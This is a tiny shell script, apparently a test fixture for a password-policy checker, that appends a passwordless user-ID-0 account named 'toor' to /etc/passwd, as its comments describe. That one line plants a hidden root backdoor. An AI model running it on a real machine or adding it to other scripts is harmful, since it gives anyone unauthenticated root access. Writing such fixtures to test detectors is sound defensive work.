#!/bin/sh
# breaks: password_policy.no_empty_password
# caught-by: reading
# what: a second account with user ID 0 and no password stands in /etc/passwd itself, and /etc/shadow knows nothing of it
set -eu
printf 'toor::0:0::/root:/bin/bash\n' >> /etc/passwd
